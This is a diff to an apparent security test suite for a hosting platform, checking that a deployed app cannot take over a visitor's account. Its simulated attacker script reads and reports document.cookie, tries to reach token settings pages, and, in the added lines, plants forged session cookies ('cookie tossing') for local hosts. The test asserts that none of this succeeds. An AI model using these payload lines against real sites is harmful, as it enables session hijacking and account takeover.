@@ -23,6 +23,10 @@ function attackerApp() {
   const attack = `(async () => {
   const report = (k, v) => fetch('report?k=' + encodeURIComponent(k) + '&v=' + encodeURIComponent(String(v).slice(0, 300)), { mode: 'no-cors' })
   try { await report('cookie', document.cookie) } catch (e) { await report('cookie-error', e.name) }
+  // Cookie tossing: plant a session for the platform's host from the app's page.
+  for (const domain of ['', '; domain=localhost', '; domain=127.0.0.1']) {
+    try { document.cookie = 'xbasis-session=planted; path=/' + domain; document.cookie = 'remember_web=planted; path=/' + domain } catch (e) {}
+  }
   for (const base of ['', ...${JSON.stringify(platforms)}]) {
     const url = base + '/settings/tokens'
     try {
@@ -145,7 +149,9 @@ test.group('A deployed app cannot take over the account of a visitor', (group) =
       }
     }
 
-    // No token was made for the victim, by any route, and the visitor is still signed in.
+    // No cookie was planted for the platform's hosts, and no token was made for the victim; the visitor is still signed in.
+    const after = (await browserContext.cookies()).filter((c) => c.domain.replace(/^\./, '') === 'localhost' || c.domain.replace(/^\./, '') === '127.0.0.1')
+    assert.deepEqual(after.filter((c) => c.value === 'planted'), [])
     const tokens = await db.from('auth_access_tokens').where('tokenable_id', victim.user.id).select('name')
     assert.deepEqual(tokens.map((t) => t.name).filter((n) => String(n).startsWith('stolen')), [])
     await page.goto(platforms[0] + '/settings/tokens')
